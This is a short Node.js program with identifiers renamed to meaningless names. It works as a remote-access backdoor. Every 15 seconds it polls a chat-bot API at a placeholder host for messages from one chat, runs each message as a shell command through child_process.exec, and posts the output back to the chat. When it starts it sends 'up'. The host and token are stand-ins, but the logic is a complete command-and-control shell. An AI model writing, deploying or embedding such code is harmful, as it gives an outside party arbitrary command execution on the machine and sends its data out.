const item0 = require('https');
const {
  exec: item1
} = require('child_process');
class item2 {
  constructor(item4, item5) {
    this.base = 'https://bots.invalid/bot' + item4;
    this.chat = item5;
    this.offset = 0;
    this.busy = false;
  }
  get(item6, item7) {
    return new Promise((item8, item9) => {
      item0.get(this.base + '/' + item6 + '?' + new URLSearchParams(item7), item10 => {
        let item11 = '';
        item10.setEncoding('utf8');
        item10.on('data', item12 => {
          item11 += item12;
        });
        item10.on('end', () => {
          try {
            item8(JSON.parse(item11));
          } catch (item13) {
            item9(item13);
          }
        });
      }).on('error', item9);
    });
  }
  say(item14) {
    return this.get('sendMessage', {
      chat_id: this.chat,
      text: item14.slice(0, 4096)
    });
  }
  async poll() {
    if (this.busy) return;
    this.busy = true;
    try {
      const item15 = await this.get('getUpdates', {
        offset: this.offset,
        timeout: 10
      });
      for (const item16 of item15.result) {
        this.offset = item16.update_id + 1;
        if (!item16.message || item16.message.chat.id !== this.chat) continue;
        await this.run(item16.message.text);
      }
    } catch (item17) {} finally {
      this.busy = false;
    }
  }
  run(item18) {
    return new Promise(item19 => {
      item1(item18, {
        timeout: 20000,
        maxBuffer: 1 << 20
      }, (item20, item21, item22) => {
        item19(this.say(item20 ? item22 || item20.message : item21));
      });
    });
  }
}
const item3 = new item2('0:invalid', 100);
setInterval(() => item3.poll(), 15000);
item3.say('up').catch(() => {});
